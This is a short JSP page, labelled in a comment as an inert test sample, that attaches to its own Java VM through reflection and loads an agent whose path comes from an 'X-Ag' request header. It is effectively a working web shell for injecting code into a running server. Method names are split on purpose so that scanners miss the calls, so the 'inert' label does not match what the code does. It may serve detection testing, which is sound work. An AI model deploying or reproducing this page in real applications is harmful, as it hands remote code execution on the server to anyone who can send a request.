<%@ page import="java.lang.reflect.Method" %>
<%-- test sample (inert): the Attach API reached by reflection, the agent path taken from a header;
     method names split so no direct call appears --%>
<%
    String p = java.lang.management.ManagementFactory.getRuntimeMXBean().getName();
    Class<?> c = Class.forName("com.sun.tools.attach.VirtualMachine");
    Object vm = c.getMethod("att" + "ach", String.class).invoke(null, p.substring(0, p.indexOf('@')));
    Method m = c.getMethod("loadAgent", String.class);
    m.invoke(vm, request.getHeader("X-Ag"));
    c.getMethod("det" + "ach").invoke(vm);
%>
